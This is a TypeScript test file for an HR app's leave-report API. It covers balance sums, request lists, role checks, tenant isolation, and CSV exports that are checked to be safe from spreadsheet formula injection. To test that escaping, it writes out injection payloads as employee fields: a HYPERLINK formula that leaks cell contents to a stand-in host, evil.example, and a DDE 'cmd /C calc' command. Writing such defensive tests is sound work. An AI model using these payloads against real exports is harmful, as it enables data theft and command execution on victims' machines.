/**
 * The reports through the API (issue 19, ADR 0098), on PGlite and, with TEST_DATABASE_URL, on
 * PostgreSQL: the balances are the balance card's sums, the requests carry status and decision, the
 * CSV is spreadsheet-safe, another company's data never shows, and only super admins may read them.
 */
import { BALANCE_REPORT_COLUMNS, REPORT_MESSAGES } from '@hr/shared/leave/reports.schemas';
import { isoDate } from '@hr/shared/working-days';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { httpClient, type Json, json, useTestApp } from '../../../test/test-context.ts';

const testApp = useTestApp();

async function signedIn(email: string) {
  const client = httpClient(testApp.app.app);
  await client.signIn(email);
  return client;
}

const csvCells = async (res: Response) => {
  const bytes = new Uint8Array(await res.arrayBuffer());
  // A UTF-8 byte-order mark first, so that Excel reads accents right (res.text() would drop it).
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return Papa.parse<string[]>(new TextDecoder().decode(bytes), { skipEmptyLines: true }).data;
};

describe('GET /api/v1/reports/balances', () => {
  it("gives each employee the balance card's sums, also after HR's opening balance and adjustments", async () => {
    const owner = await signedIn('owner@northwind.example');
    const employees = await json(await owner.get('/api/v1/employees?pageSize=200'));
    const alice = employees.items.find((e: Json) => e.email === 'alice@northwind.example');
    for (const body of [
      { kind: 'opening_balance', days: -2.5, reason: 'Taken before' },
      { kind: 'adjustment', days: 1.5, reason: 'TOIL' },
      { kind: 'adjustment', days: 1, reason: 'Bought' },
    ]) {
      expect((await owner.post(`/api/v1/employees/${alice.id}/ledger`, body)).status).toBe(201);
    }

    const res = await owner.get('/api/v1/reports/balances');
    expect(res.status).toBe(200);
    const report = await json(res);
    expect(report.departments).toEqual(expect.arrayContaining(['Management', 'Workshop', 'Glasgow Office']));
    expect(report.departments).not.toContain('Hire');
    expect(report.items.length).toBe(employees.total);
    for (const item of report.items) {
      const ledger = await json(await owner.get(`/api/v1/employees/${item.employeeRecordId}/ledger`));
      expect(report.yearStart).toBe(ledger.balance.yearStart);
      expect({ name: item.fullName, remaining: item.remaining }).toEqual({
        name: item.fullName,
        remaining: ledger.balance.remaining,
      });
      expect(Math.round((item.taken + item.booked) * 10) / 10).toBe(ledger.balance.used);
      expect(item.pending).toBe(ledger.balance.pending);
      const total = item.entitlement + item.openingBalance + item.carryOver + item.adjustments;
      expect(Math.round(total * 10) / 10).toBe(ledger.balance.total);
    }
    const aliceRow = report.items.find((i: Json) => i.employeeRecordId === alice.id);
    expect(aliceRow).toMatchObject({ openingBalance: -2.5, adjustments: 2.5 });

    const workshop = await json(await owner.get('/api/v1/reports/balances?department=Workshop'));
    expect(workshop.items.length).toBeGreaterThan(0);
    expect(workshop.items.every((i: Json) => i.department === 'Workshop')).toBe(true);

    const year = Number(report.yearStart.slice(0, 4));
    const last = await json(await owner.get(`/api/v1/reports/balances?year=${year - 1}`));
    expect(last.yearStart).toBe(`${year - 1}${report.yearStart.slice(4)}`);
  });

  it('downloads the same rows as CSV, formulas escaped and numbers kept as numbers', async () => {
    const owner = await signedIn('owner@northwind.example');
    const created = await owner.post('/api/v1/employees', {
      fullName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      email: 'formula@northwind.example',
      position: '+cmd|" /C calc"!A0',
      department: '@Evil',
      employeeNumber: '-1+1',
      startDate: '2026-01-05',
    });
    expect(created.status).toBe(201);
    const { id } = await json(created);
    await owner.post(`/api/v1/employees/${id}/ledger`, { kind: 'adjustment', days: -3, reason: 'Sold' });

    const report = await json(await owner.get('/api/v1/reports/balances'));
    const res = await owner.get('/api/v1/reports/balances.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="balances-${report.yearStart}.csv"`,
    );
    const cells = await csvCells(res);
    expect(cells[0]).toEqual(BALANCE_REPORT_COLUMNS.map(([, header]) => header));
    expect(cells).toHaveLength(report.items.length + 1);
    const row = cells.find((r) => r[0] === "'-1+1");
    expect(row?.slice(0, 3)).toEqual(["'-1+1", `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'@Evil"]);
    // Adjustments: a negative number is written as a number, not escaped.
    expect(row?.[6]).toBe('-3');
    // No cell of the file starts with a formula character.
    expect(cells.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c))).toEqual([]);
  });
});

describe('GET /api/v1/reports/requests', () => {
  it('lists every request of the period with its status, decider and comment; CSV formula-safe', async () => {
    const manager = await signedIn('manager@northwind.example');
    const approvals = await json(await manager.get('/api/v1/holidays/approvals'));
    const pending = approvals.items[0];
    expect(pending).toBeTruthy();
    const decided = await manager.post(`/api/v1/holidays/requests/${pending.id}/decision`, {
      decision: 'reject',
      comment: '=1+2 short-staffed',
    });
    expect(decided.status).toBe(200);

    const owner = await signedIn('owner@northwind.example');
    const from = isoDate(new Date(Date.now() - 300 * 86_400_000));
    const to = isoDate(new Date(Date.now() + 300 * 86_400_000));
    const res = await owner.get(`/api/v1/reports/requests?from=${from}&to=${to}`);
    expect(res.status).toBe(200);
    const report = await json(res);
    expect(report.items.length).toBeGreaterThan(1);
    const statuses = new Set(report.items.map((i: Json) => i.status));
    expect(statuses).toEqual(new Set(['pending', 'approved', 'rejected']));
    const rejected = report.items.find((i: Json) => i.id === pending.id);
    expect(rejected).toMatchObject({
      status: 'rejected',
      decidedBy: 'Maya Mitchell',
      comment: '=1+2 short-staffed',
    });
    expect(rejected.decidedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    for (const item of report.items) expect(item.startDate <= to && item.endDate >= from).toBe(true);

    const sick = await json(await owner.get(`/api/v1/reports/requests?from=${from}&to=${to}&type=sick`));
    expect(sick.items.every((i: Json) => i.holidayType === 'sick')).toBe(true);
    const glasgow = await json(
      await owner.get(`/api/v1/reports/requests?from=${from}&to=${to}&department=Glasgow%20Office`),
    );
    expect(glasgow.items.every((i: Json) => i.department === 'Glasgow Office')).toBe(true);

    const csv = await csvCells(await owner.get(`/api/v1/reports/requests.csv?from=${from}&to=${to}`));
    expect(csv).toHaveLength(report.items.length + 1);
    expect(csv.flat()).toContain("'=1+2 short-staffed");
    expect(csv.flat()).not.toContain('=1+2 short-staffed');
  });

  it('refuses bad periods and filters with a 400 that says why', async () => {
    const owner = await signedIn('owner@northwind.example');
    const cases: [string, string][] = [
      ['/api/v1/reports/requests?from=2026-05-01&to=2026-04-01', REPORT_MESSAGES.toBeforeFrom],
      ['/api/v1/reports/requests?from=2020-01-01&to=2026-01-01', REPORT_MESSAGES.periodTooLong],
      ['/api/v1/reports/requests?from=2026-02-30', REPORT_MESSAGES.invalidDate],
      ['/api/v1/reports/requests.csv?type=holiday', ''],
      ['/api/v1/reports/balances?year=26', REPORT_MESSAGES.invalidYear],
      ['/api/v1/reports/balances.csv?year=0999', REPORT_MESSAGES.invalidYear],
    ];
    for (const [url, message] of cases) {
      const res = await owner.get(url);
      expect(res.status, url).toBe(400);
      const body = await json(res);
      if (message) expect(body.error.message, url).toBe(message);
    }
  });
});

describe('who may read the reports', () => {
  it('only super admins (and developers): operatives and admins get 403, anonymous callers 401', async () => {
    const urls = [
      '/api/v1/reports/balances',
      '/api/v1/reports/balances.csv',
      '/api/v1/reports/requests',
      '/api/v1/reports/requests.csv',
    ];
    const anonymous = httpClient(testApp.app.app);
    for (const url of urls) {
      expect((await anonymous.get(url)).status, url).toBe(401);
      for (const email of [
        'alice@northwind.example',
        'admin@northwind.example',
        'manager@northwind.example',
      ]) {
        expect((await (await signedIn(email)).get(url)).status, `${url} ${email}`).toBe(403);
      }
      expect((await (await signedIn('dev@northwind.example')).get(url)).status, url).toBe(200);
    }
  });

  it("never shows another company's employees or requests", async () => {
    const northwind = await signedIn('owner@northwind.example');
    const southbank = await signedIn('owner@southbank.example');
    const theirs = await json(await northwind.get('/api/v1/reports/balances'));
    const ours = await json(await southbank.get('/api/v1/reports/balances'));
    const theirIds = new Set(theirs.items.map((i: Json) => i.employeeRecordId));
    expect(ours.items.length).toBeGreaterThan(0);
    expect(ours.items.some((i: Json) => theirIds.has(i.employeeRecordId))).toBe(false);
    expect(ours.items.map((i: Json) => i.fullName)).not.toContain('Alice Anders');
    expect(ours.departments).not.toContain('Workshop');
    // A department of the other company names nothing here.
    const filtered = await json(await southbank.get('/api/v1/reports/balances?department=Workshop'));
    expect(filtered.items).toEqual([]);

    const from = isoDate(new Date(Date.now() - 300 * 86_400_000));
    const to = isoDate(new Date(Date.now() + 300 * 86_400_000));
    const theirRequests = await json(await northwind.get(`/api/v1/reports/requests?from=${from}&to=${to}`));
    const ourRequests = await json(await southbank.get(`/api/v1/reports/requests?from=${from}&to=${to}`));
    const theirRequestIds = new Set(theirRequests.items.map((i: Json) => i.id));
    expect(ourRequests.items.some((i: Json) => theirRequestIds.has(i.id))).toBe(false);
    const csv = await (await southbank.get(`/api/v1/reports/requests.csv?from=${from}&to=${to}`)).text();
    expect(csv).not.toContain('Alice Anders');
    expect(csv).not.toContain('Maya Mitchell');
  });
});
